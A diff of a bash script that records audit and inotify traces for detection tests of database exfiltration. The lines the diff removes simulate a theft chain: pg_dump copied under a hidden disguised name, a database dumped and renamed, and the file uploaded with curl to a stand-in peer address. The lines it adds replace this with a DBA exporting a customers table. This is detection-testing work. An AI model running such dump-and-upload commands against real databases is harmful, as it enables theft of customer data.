@@ -1,15 +1,19 @@
 #!/bin/bash
-# Records the issue-13 chains on this machine, as root: kernel audit (execve and connect, via auditd)
+# Records issue 13 item 4's DBA (a member of dba: psql \\copy to her home) on this machine, as root: kernel audit (execve and connect, via auditd)
 # and inotify (inotifywait) while a login user (loginuid set, as pam_loginuid does) runs the commands.
 # Output: OUT/audit.log (raw audit records), OUT/inotify.log, OUT/stat.log (stat right after each step,
 # what osquery's inotify handler reads), OUT/marks.log (phase boundaries, the session shell).
-# tests/test_detect_db_connect.py converts them to osquery 5.23.1 rows, runs the pack's SQL, then correlates.
+# tests/test_detect_admins_egress.py converts them to osquery 5.23.1 rows, runs the pack's SQL, then correlates.
+# Needs auditd and inotify-tools (apt-get install auditd inotify-tools), PostgreSQL 15 and the test users
+# of tests/dbservers.py. Tests read the committed recording; only re-recording needs root.
 set -euo pipefail
-OUT=${1:?usage: record_issue13.sh OUTDIR}
-USER_NAME=dbw_mallory
-W=/tmp/dbw13rec
-PEER=198.51.100.2; NS=dbw13ns; VH=dbw13h0; VP=dbw13p0
-mkdir -p "$OUT"; rm -rf "$W"; mkdir -m 1777 "$W"
+OUT=${1:?usage: record_issue13_dba.sh OUTDIR}
+USER_NAME=dbw_alice
+W=/home/dbw_alice/exports
+PEER=198.51.100.2; NS=dbw13nsb; VH=dbw13h1; VP=dbw13p1
+mkdir -p "$OUT"; rm -rf "$W"; mkdir -p "$W"; chown dbw_alice: "$W"
+# The DBA: a member of the admin group dba (removed again on exit).
+groupadd -f dba; gpasswd -a dbw_alice dba >/dev/null
 BASE=$(mktemp -d /tmp/dbw13pg.XXXX); chmod 755 "$BASE"; chown postgres "$BASE"
 PGBIN=$(dirname "$(ls /usr/lib/postgresql/*/bin/initdb | tail -1)")
 runuser -u postgres -- "$PGBIN/initdb" -D "$BASE/data" -U postgres --no-sync --auth-local=trust \
@@ -25,7 +29,7 @@ cleanup() {
   auditctl -D -k dbw13 >/dev/null 2>&1
   [ -n "${AUD:-}" ] && kill "$AUD"
   ip link del $VH 2>/dev/null; ip netns del $NS 2>/dev/null
-  rm -rf "$BASE" /tmp/.cache-helper
+  rm -rf "$BASE" "$W"; gpasswd -d dbw_alice dba >/dev/null; [ -z "$(getent group dba | cut -d: -f4)" ] && groupdel dba
 }
 trap cleanup EXIT
 psql_admin() { runuser -u postgres -- "$PGBIN/psql" -X -q -h "$BASE/sock" -p $PORT -U postgres "$@"; }
@@ -62,19 +66,12 @@ bash -c "echo $UIDN > /proc/self/loginuid; exec runuser -u $USER_NAME -- bash --
 exec 9> "$FIFO"
 sleep 1
 SHELL_PID=$(pgrep -P $(pgrep -P $SH | head -1) -x bash || pgrep -P $SH -x bash || echo $SH)
+mark "group|dba|$(getent group dba | cut -d: -f4)"
 mark "shell|$SHELL_PID|$(readlink /proc/$SHELL_PID/exe)|$(tr '\0' ' ' < /proc/$SHELL_PID/cmdline)"
 run() { echo "cd ~; $1" >&9; sleep 2; snap; }
-mark "renamed-begin"
-run "cp $PGBIN/pg_dump /tmp/.cache-helper"
-run "/tmp/.cache-helper -h 127.0.0.1 -U app -f $W/y.sql shop"
-run "curl -s -m 10 -T $W/y.sql http://$PEER:8080/u"
-mark "renamed-end"
-sleep 2
-mark "unix-begin"
-run "/tmp/.cache-helper -h $BASE/sock -U app -f $W/z.sql shop"
-run "mv $W/z.sql $W/notes.txt"
-run "curl -s -m 10 -T $W/notes.txt http://$PEER:8080/u"
-mark "unix-end"
+mark "dba-begin"
+run "psql -h 127.0.0.1 -U app -d shop -c \"\\copy customers to '$W/customers.csv' csv header\""
+mark "dba-end"
 echo exit >&9; exec 9>&-
 sleep 2
 ausearch -k dbw13 --raw > "$OUT/audit.log" || true
